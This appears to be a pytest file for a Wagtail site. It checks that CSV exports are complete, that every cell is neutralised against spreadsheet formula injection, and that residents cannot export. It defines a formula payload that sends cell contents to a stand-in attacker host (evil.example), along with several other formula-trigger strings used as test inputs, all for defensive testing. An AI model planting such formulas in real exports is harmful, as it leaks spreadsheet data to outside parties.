"""Exports: every CSV the site writes is complete and no cell of it runs as a spreadsheet formula.

Issue 15 points 5 and 6. The listings are found from Wagtail's registries, so a new snippet or report is
covered without anyone adding it here.
"""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.urls import get_resolver, reverse
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.admin.viewsets import viewsets
from wagtail.admin.viewsets.base import ViewSet
from wagtail.admin.viewsets.model import ModelViewSet
from wagtail.models import Page
from wagtail.snippets.views.snippets import SnippetViewSet

from livinglab.spreadsheets import SafeCsvWriter, neutralise_cell
from tests.factories import AdministratorFactory, CommentFactory, ProposalFactory, ResidentFactory

pytestmark = pytest.mark.django_db

User = get_user_model()
OUR_APPS = {"accounts", "home", "proposals", "pilots", "search", "notifications"}
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def read_csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def SuperuserFactory():  # noqa: N802 - reads like the factories it sits beside
    return AdministratorFactory(is_superuser=True, is_staff=True)


@pytest.fixture
def admin_client(client, administrator):
    client.force_login(administrator)
    return client


@pytest.mark.parametrize(
    "value",
    [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＠SUM(A1)"],
)
def test_neutralise_cell_prefixes_formula_triggers(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Dark alley", "a=b", " plain", "", 42, None, 3.5])
def test_neutralise_cell_leaves_plain_values(value):
    assert neutralise_cell(value) == value


def test_safe_csv_writer_neutralises_each_cell():
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerow([FORMULA, "ok", 7])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'" + FORMULA, "ok", "7"]


def test_every_wagtail_export_view_goes_through_the_guarded_methods():
    """A Wagtail upgrade that overrides the guarded methods in a subclass would bypass the guard."""
    seen = set()
    pending = [SpreadsheetExportMixin]
    while pending:
        cls = pending.pop()
        for sub in cls.__subclasses__():
            if sub not in seen:
                seen.add(sub)
                pending.append(sub)
    assert seen, "Wagtail's export views were not imported"
    for cls in seen:
        assert cls.write_csv_row is SpreadsheetExportMixin.write_csv_row, cls
        assert cls.stream_csv is SpreadsheetExportMixin.stream_csv, cls
        assert cls.get_heading is SpreadsheetExportMixin.get_heading, cls


def test_site_history_report_neutralises_a_page_title(admin_client):
    root = Page.objects.get(depth=1)
    page = root.add_child(instance=Page(title=FORMULA, slug="formula"))
    page.save_revision(log_action=True).publish()
    response = admin_client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"})
    assert response.status_code == 200
    cells = [cell for row in read_csv(response) for cell in row]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells


SNIPPET_EXPORTS = {
    "proposal": lambda: ProposalFactory(title=FORMULA),
    "comment": lambda: CommentFactory(body=FORMULA),
}


@pytest.mark.parametrize("model", sorted(SNIPPET_EXPORTS))
def test_listing_export_has_content_and_no_formula(admin_client, model):
    SNIPPET_EXPORTS[model]()
    response = admin_client.get(reverse(f"wagtailsnippets_proposals_{model}:list"), {"export": "csv"})
    rows = [row for row in read_csv(response) if any(cell.strip() for cell in row)]
    assert len(rows) == 2, rows  # heading + the one item
    assert all(cell for cell in rows[0]), "every column has a heading"
    assert "'" + FORMULA in rows[1]
    assert FORMULA not in rows[1]


def test_user_listing_export_lists_users(admin_client, administrator):
    resident = ResidentFactory(display_name="-Kim")
    response = admin_client.get(reverse("wagtailusers_users:index"), {"export": "csv"})
    rows = [row for row in read_csv(response) if any(cell.strip() for cell in row)]
    emails = {cell for row in rows[1:] for cell in row if "@" in cell}
    assert {resident.email, administrator.email} <= emails
    assert any("'-Kim" in row for row in rows[1:])


def admin_model_viewsets():
    get_resolver().url_patterns  # noqa: B018 - loading the URLconf registers every viewset
    return [viewset for viewset in viewsets.viewsets if isinstance(viewset, ModelViewSet)]


def test_our_listings_declare_their_export_columns():
    ours = [viewset for viewset in admin_model_viewsets() if viewset.model._meta.app_label in OUR_APPS]
    assert {viewset.model.__name__ for viewset in ours} >= {"Proposal", "Comment", "Report", "Area", "Category"}
    for viewset in ours + [viewset for viewset in admin_model_viewsets() if viewset.model is User]:
        assert viewset.list_export and viewset.list_export is not ViewSet.UNDEFINED, viewset.model.__name__


def test_every_admin_listing_export_has_rows_or_is_refused(client):
    """Any listing's ``?export=csv`` is either a complete CSV or a 404, never blank lines."""
    client.force_login(SuperuserFactory())
    ProposalFactory()
    CommentFactory()
    for viewset in admin_model_viewsets():
        index = "list" if isinstance(viewset, SnippetViewSet) else "index"
        response = client.get(reverse(viewset.get_url_name(index)), {"export": "csv"})
        if response.status_code == 404:
            continue
        assert response.status_code == 200, viewset
        rows = read_csv(response)
        assert rows and all(cell for cell in rows[0]), viewset
        assert all(any(cell.strip() for cell in row) for row in rows), f"{viewset} exports blank lines"


@pytest.mark.parametrize("model", ["proposal", "comment"])
def test_resident_cannot_export(client, model):
    ProposalFactory(title="Private moderation data")
    client.force_login(ResidentFactory())
    response = client.get(reverse(f"wagtailsnippets_proposals_{model}:list"), {"export": "csv"})
    assert response.status_code in (302, 403)
    assert b"Private moderation data" not in getattr(response, "content", b"")
